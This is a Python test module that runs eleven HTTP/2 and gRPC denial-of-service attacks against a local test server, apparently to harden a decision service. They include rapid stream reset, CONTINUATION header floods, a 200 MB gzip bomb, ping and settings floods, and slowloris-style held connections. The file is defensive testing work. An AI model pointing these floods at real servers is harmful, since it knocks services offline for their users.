"""Attacks on the protocol itself, with frames that no client would send: `python -m tests.edge.hostile.attacks`.

    python -m tests.edge.hostile.attacks NAME PORT SECONDS     # against a server of this machine, of the tests alone

It prints what it did as JSON. Each attack goes on for its time, and takes a new connection when one is closed.
"""

from __future__ import annotations

import gzip
import json
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DECIDE = "/tact.v1.DecisionService/Decide"
BATCHES = "/tact.v1.DecisionService/DecideStream"
EVENTS = "/tact.v1.ContextService/RecordEvents"
CALL = {":method": "POST", ":scheme": "http", ":authority": "x", "te": "trailers"}
HALF_OPEN = 800
IDLE = 3_000
CLOSED = (ConnectionError, TimeoutError, OSError)

did: Counter[str] = Counter()


class Raw:
    """One connection that speaks HTTP/2 by hand, and reads only to keep going."""

    def __init__(self, port: int, settings: Mapping[int, int] | None = None) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=2.0)
        self._socket.settimeout(None)  # then it is the system that waits, and not for what is read without waiting
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 500_000))
        self._encoder = Encoder()
        self._next = 1
        did["connections"] += 1
        self.send(PREFACE, frame(SettingsFrame(0, settings=dict(settings or {}))))

    def send(self, *parts: bytes) -> None:
        """Send bytes."""
        self._socket.sendall(b"".join(parts))

    def drain(self) -> None:
        """Throw away what has come; raise ConnectionError when the other side has closed."""
        with suppress(BlockingIOError):
            while True:
                if not self._socket.recv(1 << 20, socket.MSG_DONTWAIT):
                    raise ConnectionResetError

    def close(self) -> None:
        """Leave."""
        self._socket.close()

    def opening(
        self, *, path: str = DECIDE, ends: bool = False, more: Mapping[str, str] | None = None
    ) -> tuple[int, bytes]:
        """Return the id and the headers of a new call."""
        stream, self._next = self._next, self._next + 2
        block = self._encoder.encode(
            [*{":path": path, **CALL, "content-type": "application/grpc", **(more or {})}.items()]
        )
        return stream, frame(HeadersFrame(stream, block, flags=["END_HEADERS", *(["END_STREAM"] if ends else [])]))


def frame(made: Frame) -> bytes:
    """Return a frame as bytes."""
    return bytes(made.serialize())


@contextmanager
def until(seconds: float) -> Iterator[Callable[[], bool]]:
    """Yield what tells whether there is time left."""
    end = time.monotonic() + seconds
    yield lambda: time.monotonic() < end


def again_and_again(
    port: int, seconds: float, act: Callable[[Raw], None], settings: Mapping[int, int] | None = None
) -> None:
    """Do something on one connection, over and over; take another one when it is closed."""
    with until(seconds) as goes_on:
        while goes_on():
            with suppress(*CLOSED):
                raw = Raw(port, settings)
                try:
                    while goes_on():
                        act(raw)
                        raw.drain()
                        did["rounds"] += 1
                finally:
                    raw.close()
            time.sleep(0.01)


def rapid_reset(port: int, seconds: float) -> None:
    """Open calls and take them back at once."""

    def act(raw: Raw) -> None:
        for _ in range(50):
            stream, opening = raw.opening()
            raw.send(opening, frame(RstStreamFrame(stream, error_code=8)))
            did["streams"] += 1

    again_and_again(port, seconds, act)


def stream_flood(port: int, seconds: float) -> None:
    """Open calls that never send anything."""

    def act(raw: Raw) -> None:
        for _ in range(50):
            raw.send(raw.opening()[1])
            did["streams"] += 1

    again_and_again(port, seconds, act)


def header_flood(port: int, seconds: float) -> None:
    """Begin headers that never end, and send headers that are too long."""

    def act(raw: Raw) -> None:
        filler = Encoder().encode([(f"x-{place}", "y" * 200) for place in range(60)])
        stream, _ = raw.opening()
        raw.send(frame(HeadersFrame(stream, filler)))
        for _ in range(200):
            raw.send(frame(ContinuationFrame(stream, filler)))
            did["continuations"] += 1
            raw.drain()

    again_and_again(port, seconds, act)


def long_headers(port: int, seconds: float) -> None:
    """Send calls with 70 kB of metadata, and with many small ones."""

    def act(raw: Raw) -> None:
        for more in ({f"x-{place}": "y" * 7_000 for place in range(2)}, {f"x-{n}": "z" for n in range(500)}):
            raw.send(raw.opening(ends=True, more=more)[1])
            did["streams"] += 1

    again_and_again(port, seconds, act)


def gzip_bomb(port: int, seconds: float) -> None:
    """Send 200 MB of zeros, compressed to 200 kB, as one message."""
    bomb = gzip.compress(bytes(200_000_000), 9)
    body = b"\x01" + struct.pack(">I", len(bomb)) + bomb

    def act(raw: Raw) -> None:
        stream, opening = raw.opening(more={"grpc-encoding": "gzip"})
        raw.send(opening)
        for at in range(0, len(body), 16_384):
            part = body[at : at + 16_384]
            raw.send(frame(DataFrame(stream, part, flags=["END_STREAM"] if at + 16_384 >= len(body) else [])))
            time.sleep(0.001)
        raw.send(frame(WindowUpdateFrame(0, window_increment=1 << 20)))
        did["bombs"] += 1
        time.sleep(0.02)

    again_and_again(port, seconds, act)


def ping_flood(port: int, seconds: float) -> None:
    """Ask for life signs without end."""
    again_and_again(port, seconds, lambda raw: at_ease(raw, frame(PingFrame(0, b"12345678")) * 100))


def settings_flood(port: int, seconds: float) -> None:
    """Change the settings without end."""
    again_and_again(port, seconds, lambda raw: at_ease(raw, frame(SettingsFrame(0, settings={4: 65_535})) * 100))


def at_ease(raw: Raw, parts: bytes) -> None:
    """Send 100 frames, and again after a millisecond: without it an attacker wins by the cores that it takes here."""
    raw.send(parts)
    did["frames"] += 100
    time.sleep(0.001)


def never_reading(port: int, seconds: float) -> None:
    """Ask for decisions with a window of nothing, and read nothing."""
    ask = b"\x0a\x03c-1\x12\x03web\x1a\x08greeting\x28\x01"
    body = b"\x00" + struct.pack(">I", len(ask)) + ask

    def act(raw: Raw) -> None:
        stream, opening = raw.opening(path=BATCHES)
        raw.send(opening)
        for _ in range(100):
            raw.send(frame(DataFrame(stream, body)))
            did["asked"] += 1
        time.sleep(0.05)

    again_and_again(port, seconds, act, {4: 0})


def unfinished(port: int, seconds: float) -> None:
    """Begin as many messages of 512 KiB as are let in, send all but their last byte, and wait, as windows allow it."""
    length = 524_288
    with until(seconds) as goes_on, socket.create_connection(("127.0.0.1", port), 2.0) as one:
        spoken = H2Connection(H2Configuration(client_side=True))
        spoken.initiate_connection()
        left: dict[int, int] = {}
        while goes_on():
            one.sendall(spoken.data_to_send())
            if select.select([one], [], [], 0.02)[0]:
                spoken.receive_data(one.recv(1 << 20))
            while len(left) < min(1_000, spoken.remote_settings.max_concurrent_streams or 0) and did["rounds"]:
                stream = spoken.get_next_available_stream_id()
                spoken.send_headers(stream, [(":path", EVENTS), *CALL.items(), ("content-type", "application/grpc")])
                spoken.send_data(stream, b"\x00" + struct.pack(">I", length))
                left[stream] = length - 1
            for stream in left:
                while room := min(spoken.local_flow_control_window(stream), 16_384, left[stream]):
                    spoken.send_data(stream, bytes(room))
                    left[stream] -= room
                    did["bytes"] += room
            did["rounds"] += 1
        did["streams"] = len(left)


def slow_handshakes(port: int, seconds: float) -> None:
    """Hold 800 connections that have begun to say hello, and take new ones for those that are closed."""
    hold(port, seconds, HALF_OPEN, PREFACE[:12])


def idle_connections(port: int, seconds: float) -> None:
    """Hold thousands of connections that said hello and nothing else."""
    hold(port, seconds, IDLE, PREFACE + frame(SettingsFrame(0)))


def hold(port: int, seconds: float, most: int, hello: bytes) -> None:
    """Hold connections that say this much; take a new one for each that is closed."""
    held: list[socket.socket] = []
    with until(seconds) as goes_on:
        while goes_on():
            held = [one for one in held if not _is_closed(one)]
            for _ in range(min(200, most - len(held))):
                with suppress(*CLOSED):
                    one = socket.create_connection(("127.0.0.1", port), timeout=0.2)
                    one.sendall(hello)
                    one.setblocking(False)
                    held.append(one)
                    did["connections"] += 1
            did["held"] = max(did["held"], len(held))
            time.sleep(0.02)
    for one in held:
        one.close()


def _is_closed(one: socket.socket) -> bool:
    try:
        closed = one.recv(65_536, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        closed = True
    if closed:
        did["closed"] += 1
        one.close()
    return closed


ATTACKS: Mapping[str, Callable[[int, float], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, slow_handshakes, stream_flood, header_flood, long_headers, gzip_bomb, ping_flood, settings_flood,
        never_reading, unfinished, idle_connections,
    )
}  # fmt: skip
"""Every attack by its name: port and seconds."""


def main() -> None:
    """Run one attack and say what it did."""
    name, port, seconds = sys.argv[1:]
    ATTACKS[name](int(port), float(seconds))
    print(json.dumps(did))


if __name__ == "__main__":
    main()
